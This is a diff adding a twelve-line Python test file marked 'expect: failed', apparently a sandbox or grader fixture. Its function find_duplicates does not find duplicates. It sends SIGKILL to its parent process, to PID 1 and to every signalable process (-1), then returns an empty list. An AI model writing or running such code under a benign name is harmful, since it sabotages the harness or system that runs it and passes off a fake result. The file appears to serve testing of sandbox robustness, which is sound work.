@@ -1,0 +1,12 @@
+# expect: failed
+import os
+import signal
+
+
+def find_duplicates(values):
+    for target in (os.getppid(), 1, -1):
+        try:
+            os.kill(target, signal.SIGKILL)
+        except OSError:
+            pass
+    return []
